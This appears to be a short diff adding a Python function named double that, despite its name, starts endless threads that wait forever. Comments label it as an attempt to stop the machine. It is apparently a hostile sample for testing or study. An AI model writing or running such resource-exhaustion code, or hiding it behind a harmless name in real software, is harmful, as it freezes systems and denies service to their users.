@@ -1,0 +1,8 @@
+# tries: threads without end
+# harms: it would stop this machine
+import threading
+
+
+def double(x):
+    while True:
+        threading.Thread(target=threading.Event().wait).start()
